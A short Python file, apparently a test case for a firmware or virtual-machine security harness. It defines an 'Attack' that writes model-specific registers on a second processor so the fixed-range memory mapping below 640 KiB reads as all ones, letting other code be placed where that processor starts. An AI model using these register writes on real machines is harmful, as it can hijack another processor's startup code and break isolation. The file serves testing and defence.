"""The other processor reads all ones below 640 KiB, where it is to start: another could put code there for it alone."""

from harness import Attack

# SYSCFG.MtrrFixDramModEn, then fixed ranges without RdMem, then closed again (APM vol. 2, 7.9.1).
FIXED = [f"ap-msr {number} 0x0606060606060606" for number in (0x250, 0x258)]
ATTACK = Attack("firmware", "processor", cpus=2, timeout=90,
                operations=["ap-msr 0xc0010010 0x1c0000", *FIXED, "ap-msr 0xc0010010 0x140000"])
